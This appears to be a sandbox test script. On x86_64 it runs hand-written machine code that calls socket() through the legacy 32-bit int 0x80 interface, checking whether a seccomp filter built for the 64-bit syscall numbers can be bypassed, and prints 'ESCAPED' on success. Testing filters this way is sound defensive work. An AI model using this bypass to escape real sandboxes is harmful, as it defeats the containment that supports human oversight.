"""Makes calls by the numbers of the 32-bit interface, which a filter for the other one may not know."""

# outcome: pass | fail
# not covered without seccomp: the kernel gives them to anyone
import ctypes
import mmap
import platform

GETPID_32, SOCKET_32 = 20, 359
AF_INET, SOCK_STREAM = 2, 1
if platform.machine() == "x86_64":
    # mov eax, SOCKET; mov ebx, AF_INET; mov ecx, SOCK_STREAM; xor edx, edx; int 0x80; ret
    code = b"\x53\xb8\x67\x01\x00\x00\xbb\x02\x00\x00\x00\xb9\x01\x00\x00\x00\x31\xd2\xcd\x80\x5b\xc3"
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    address = ctypes.addressof(ctypes.c_char.from_buffer(page))
    if ctypes.CFUNCTYPE(ctypes.c_int)(address)() >= 0:
        print("ESCAPED")
